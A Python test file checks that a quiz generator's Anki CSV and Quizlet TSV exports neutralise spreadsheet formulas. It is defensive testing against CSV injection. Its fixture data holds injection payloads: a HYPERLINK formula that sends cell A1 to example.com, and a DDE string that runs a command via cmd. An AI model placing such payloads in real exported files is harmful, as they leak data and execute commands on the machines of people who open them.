"""deck.csv and quizlet.tsv opened in a spreadsheet: no cell starts a formula.

A cell starting with '=', '+', '-', '@', a tab or a carriage return is what spreadsheets read
as a formula (OWASP, "CSV injection"). Text that starts so is neutralised: in deck.csv, whose
fields are HTML, the first character becomes a character reference (Anki shows the same
text); in quizlet.tsv, plain text, a single quote comes first.
"""

from __future__ import annotations

import csv
import html
import io

import pytest
from flashcard_support import (
    SOURCES,
    collection,
    import_csv,
    notes_by_guid,
    plain,
    render_files,
    write_bank,
)

from quizgen.errors import RenderError
from quizgen.render.anki_csv import inert_field, row
from quizgen.render.flashcards import note_guid
from quizgen.render.quizlet import inert_cell
from quizgen.text import FORMULA_START
from quizgen.typography import curly

HYPERLINK = '=HYPERLINK("http://example.com/?"&A1,"Click")'
FORMULA_BANK = {
    "id": "formula-bank",
    "title": "=Formula bank",
    "revised": "2024-01-15",
    "article": {"path": "article.txt"},
    "questions": [
        {
            "id": "link",
            "type": "short_answer",
            "prompt": HYPERLINK,
            "answer": "@SUM(1+1)*cmd|' /C calc'!A0",
            "explanation": "+1 and more",
            "source": SOURCES[0],
        },
        {
            "id": "minus",
            "type": "numeric",
            "prompt": "-2+3 is what?",
            "answer": -40,
            "explanation": "-40, as written.",
            "source": SOURCES[1],
        },
        {
            "id": "q186",  # its GUID would start with '-' (see the GUID test)
            "type": "multiple_choice",
            "prompt": "@ the start?",
            "answer": "+ plus",
            "distractors": ["= equals", "- minus"],
            "explanation": "=1+1",
            "source": SOURCES[2],
        },
        {
            "id": "cl",
            "type": "cloze",
            "prompt": "=Fill in",
            "text": "{{-1}} and {{=2}}",
            "explanation": "@ blank",
            "source": SOURCES[2],
        },
    ],
}


def starts_a_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_START)


@pytest.fixture(scope="module")
def files(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("formulas")
    bank = write_bank(tmp / "bank", FORMULA_BANK)
    return render_files(bank, ("anki-csv", "quizlet"), tmp / "out")


def deck_rows(path) -> list[list[str]]:
    text = path.read_text(encoding="utf-8")
    body = "".join(line for line in io.StringIO(text) if not line.startswith("#"))
    return list(csv.reader(io.StringIO(body)))


def test_no_cell_of_deck_csv_starts_a_formula(files):
    rows = deck_rows(files["deck.csv"])
    assert len(rows) == len(FORMULA_BANK["questions"])
    cells = [cell for r in rows for cell in r]
    assert not [cell for cell in cells if starts_a_formula(cell)]
    # The neutralised cells are the ones that would have started one.
    fronts = {r[5]: r[2] for r in rows}
    # Straight quotes print as curly ones (typography), and the text is escaped for HTML.
    assert fronts[note_guid("formula-bank", "link")] == "&#61;" + html.escape(curly(HYPERLINK)[1:])
    assert fronts[note_guid("formula-bank", "minus")] == "&#45;2+3 is what?"


def test_anki_imports_the_same_visible_text(files, tmp_path):
    with collection(tmp_path / "col.anki2") as col:
        log = import_csv(col, files["deck.csv"])
        assert len(log.new) == len(FORMULA_BANK["questions"])
        notes = notes_by_guid(col)
        link = notes[note_guid("formula-bank", "link")]
        assert plain(link["Front"]) == curly(HYPERLINK)
        assert plain(link["Back"]).startswith(curly("@SUM(1+1)*cmd|' /C calc'!A0"))
        minus = notes[note_guid("formula-bank", "minus")]
        assert plain(minus["Front"]) == "-2+3 is what?"
        assert plain(minus["Back"]).startswith("-40-40, as written.")
        mc = notes[note_guid("formula-bank", "q186")]
        assert plain(mc["Front"]) == "@ the start?"
        cloze = notes[note_guid("formula-bank", "cl")]
        assert plain(cloze["Text"]) == "=Fill in{{c1::-1}} and {{c2::=2}}"
        assert len(cloze.cards()) == 2
        assert plain(cloze["Back Extra"]).startswith("@ blank")


def test_no_cell_of_quizlet_tsv_starts_a_formula(files):
    text = files["quizlet.tsv"].read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text), delimiter="\t", quoting=csv.QUOTE_NONE))
    assert len(rows) == len(FORMULA_BANK["questions"])
    assert not [cell for r in rows for cell in r if starts_a_formula(cell)]
    terms = dict(rows)
    assert terms["'" + curly(HYPERLINK)] == "'" + curly("@SUM(1+1)*cmd|' /C calc'!A0")
    assert terms["'-2+3 is what?"] == "'-40"
    assert terms["'@ the start?"] == "'+ plus"


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(first):
    field = inert_field(f"{first}x")
    assert not starts_a_formula(field) and plain(field) == f"{first}x"
    assert inert_cell(f"{first}x") == f"'{first}x"


def test_text_that_starts_no_formula_is_unchanged():
    for text in ("Who?", " =not at the start", "'quoted", "&amp;", ""):
        assert inert_field(text) == text and inert_cell(text) == text


def test_a_guid_never_starts_with_a_minus():
    # q186 is the first question id whose base64 GUID starts with '-': it becomes '~'.
    assert note_guid("formula-bank", "q186") == "~0QVxd0frW5p4OdZ"
    guids = [note_guid("formula-bank", f"q{i}") for i in range(2000)]
    assert not [g for g in guids if starts_a_formula(g)]
    assert len(set(guids)) == len(guids)


def test_a_deck_name_that_would_start_a_formula_is_refused(files):
    from quizgen.render.flashcards import BASIC, Flashcard

    card = Flashcard(
        question_id="q", guid="g", kind=BASIC, front="Q", back="A", explanation="E",
        source="S", tags=(), modified=0,
    )  # fmt: skip
    with pytest.raises(RenderError, match=r"deck name '-deck' would start a spreadsheet formula"):
        row(card, "-deck")
